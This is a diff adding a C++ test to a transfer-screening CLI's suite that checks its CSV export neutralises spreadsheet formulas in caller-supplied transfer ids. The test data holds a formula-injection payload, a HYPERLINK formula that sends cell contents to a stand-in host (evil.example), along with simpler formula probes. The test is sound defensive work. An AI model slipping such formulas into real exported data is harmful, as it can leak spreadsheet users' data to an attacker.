@@ -32,6 +32,7 @@
 #include <string>
 #include <vector>
 
+#include "absl/strings/match.h"
 #include "absl/strings/numbers.h"
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_format.h"
@@ -439,6 +440,44 @@ TEST_F(HistoryCliTest, CsvExportStreamsEveryPageInConstantMemory) {
   // export by ~100 MB even with quarantine off. The normal suite asserts the
   // bound; this build still checks every row above.
 #endif
+}
+
+// A transfer id is the caller's text: one that a spreadsheet would run as a
+// formula comes out of `hits` and `past` with a quote before it, quoted,
+// while the numbers stay numbers.
+TEST_F(HistoryCliTest, CsvExportNeutralisesFormulas) {
+  const std::string formulas[] = {
+      R"csv(=HYPERLINK("http://evil.example/?"&A1,"invoice"))csv", "@SUM(1+1)",
+      "+1+1", "-2+3"};
+  std::vector<v1::ScreenTransferRequest> transfers;
+  for (const std::string& id : formulas) {
+    transfers.push_back(ToAccount(id, "BIDV", "3141 0001 234567", 1'500'000));
+  }
+  ASSERT_NO_FATAL_FAILURE(Screen(transfers));
+  const std::string neutralised[] = {
+      R"csv("'=HYPERLINK(""http://evil.example/?""&A1,""invoice"")")csv",
+      "\"'@SUM(1+1)\"", "\"'+1+1\"", "\"'-2+3\""};
+  for (const std::vector<std::string>& args :
+       {std::vector<std::string>{"hits", "--format=csv"},
+        std::vector<std::string>{"past", "--format=csv", "--kind=BANK_ACCOUNT",
+                                 "--issuer=BIDV",
+                                 "--value=3141 0001 234567"}}) {
+    const ProcessResult r = Client(args);
+    ASSERT_EQ(r.exit_code, 0) << r.Describe();
+    const std::vector<std::string> lines =
+        absl::StrSplit(r.out, '\n', absl::SkipEmpty());
+    ASSERT_EQ(lines.size(), 1u + 4u) << r.Describe();
+    EXPECT_EQ(lines[0], kHitsHeader);
+    for (const std::string& cell : neutralised) {
+      EXPECT_THAT(r.out, HasSubstr(",1500000," + cell + ",")) << r.Describe();
+    }
+    for (size_t i = 1; i < lines.size(); ++i) {
+      for (absl::string_view field : absl::StrSplit(lines[i], ',')) {
+        EXPECT_TRUE(field.empty() || !absl::StrContains("=+-@", field[0]))
+            << "a cell starts like a formula: " << lines[i];
+      }
+    }
+  }
 }
 
 // 2. Filters.
